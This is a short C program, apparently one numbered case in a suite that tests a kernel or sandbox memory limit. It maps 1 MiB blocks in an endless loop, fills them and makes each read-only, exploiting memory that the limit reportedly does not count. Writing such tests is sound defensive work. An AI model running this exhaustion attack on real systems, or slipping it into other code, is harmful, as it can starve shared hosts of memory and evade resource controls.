/* 3: memory that the kernel's limit does not count, since it is no longer writable. */
#include "attacker.h"

static void attack(void) {
    for (;;) {
        char *block = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (block == MAP_FAILED) pause();
        memset(block, 1, 1 << 20);
        mprotect(block, 1 << 20, PROT_READ);
    }
}

int main(void) { return play_after(attack); }
